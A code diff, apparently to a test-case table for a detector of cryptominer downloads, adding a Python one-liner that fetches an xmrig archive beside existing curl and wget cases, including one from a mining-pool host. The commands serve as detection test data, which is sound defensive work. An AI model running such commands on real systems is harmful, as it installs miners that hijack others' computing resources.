@@ -24,6 +24,9 @@ CASES: Cases = {
         [
             ran("curl -LO https://files.example/xmrig-6.21-linux-static-x64.tar.gz"),
             ran("sh -c 'wget http://c3pool.org/x'"),
+            ran(
+                'python -c \'import urllib.request as u;u.urlretrieve("http://f.example/xmrig-6.21.0-linux-x64.tar.gz","m")\''
+            ),
         ],
         [ran("curl -LO https://files.example/determiner.tar.gz"), ran("cat xmrig-6.21.tar.gz")],
     ),
